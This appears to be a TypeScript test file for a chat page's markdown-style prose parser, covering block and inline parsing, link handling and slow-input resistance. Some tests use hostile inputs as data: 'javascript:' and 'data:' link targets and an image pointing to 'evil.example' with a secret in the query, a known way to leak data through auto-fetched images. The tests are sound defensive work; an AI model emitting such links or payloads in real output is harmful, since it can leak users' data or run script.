import fc from "fast-check";
import { expect, test } from "vitest";
import { type Paragraph, readProse, readSpans, type Span } from "./prose.js";

test("paragraphs, lists, headings, quotes and fences are told apart", () => {
  const text =
    "Yes.\nStill.\n\n# Title\n- a\n- b\n  more\n1. one\n2) two\n> said\n\n---\n```js\nlet a = 1;\n\n# no\n```\nend";
  expect(readProse(text).map(({ type }) => type)).toEqual([
    "paragraph",
    "heading",
    "list",
    "list",
    "quote",
    "rule",
    "code",
    "paragraph",
  ]);
});

test("a fence that is still being written is code to the end", () => {
  expect(readProse("so:\n```py\nprint(1)")).toEqual([
    { type: "paragraph", spans: [{ type: "text", text: "so:" }] },
    { type: "code", label: "py", text: "print(1)" },
  ]);
});

test("code, emphasis and links are set; everything else stays as it is", () => {
  expect(readSpans("a `b*c*` **d** *e* f*g*h 2 * 3 * 4")).toEqual([
    { type: "text", text: "a " },
    { type: "code", text: "b*c*" },
    { type: "text", text: " " },
    { type: "strong", text: "d" },
    { type: "text", text: " " },
    { type: "em", text: "e" },
    { type: "text", text: " f*g*h 2 * 3 * 4" },
  ]);
});

test("a bare address is a link without the full stop after it", () => {
  expect(readSpans("see https://a.example/x_(y)?q=1.")).toEqual([
    { type: "text", text: "see " },
    { type: "link", text: "https://a.example/x_(y)?q=1", href: "https://a.example/x_(y)?q=1" },
    { type: "text", text: "." },
  ]);
});

test("only web and mail addresses become links", () => {
  for (const target of [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "//evil.example",
    "/v1/chats",
  ]) {
    expect(readSpans(`[press](${target})`).every((span) => span.type !== "link")).toBe(true);
  }
  expect(readSpans("[write](mailto:a@b.example)")[0]).toMatchObject({ type: "link" });
});

test("an image is a link that somebody must follow, never something the page fetches", () => {
  expect(readSpans("![pixel](https://evil.example/?q=secret)")).toEqual([
    { type: "link", text: "pixel", href: "https://evil.example/?q=secret" },
  ]);
});

test("no word is lost, whatever is written", () => {
  const letters = (text: string): string => text.replace(/[^\p{L}]/gu, "");
  const piece = fc.constantFrom(
    "word",
    " ",
    "\n",
    "\n\n",
    "*",
    "**",
    "`",
    "```",
    "- ",
    "1. ",
    "> ",
    "# ",
    "[",
    "](",
    ")",
    "ü",
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const text = pieces.join("");
      const shown = readProse(text).map(textOf).join("");
      expect(letters(shown)).toBe(letters(text));
    }),
  );
});

test("hostile text does not hold the page up", () => {
  // Read in squared time, the worst of these would take minutes.
  for (const piece of ["`", "`a ``b ", "**a", "[", "[a](", "![", "*a ", "http://", "> ", "- "]) {
    const text = piece.repeat(200_000 / piece.length);
    expect(readProse(text).length).toBeGreaterThan(0);
  }
});

function textOf(paragraph: Paragraph): string {
  switch (paragraph.type) {
    case "paragraph":
    case "heading":
    case "quote":
      return spansOf(paragraph.spans);
    case "code":
      return paragraph.label + paragraph.text;
    case "list":
      return paragraph.items.map(spansOf).join("");
    case "rule":
      return "";
  }
}

function spansOf(spans: Span[]): string {
  return spans
    .map((span) => span.text + (span.type === "link" && span.text !== span.href ? span.href : ""))
    .join("");
}
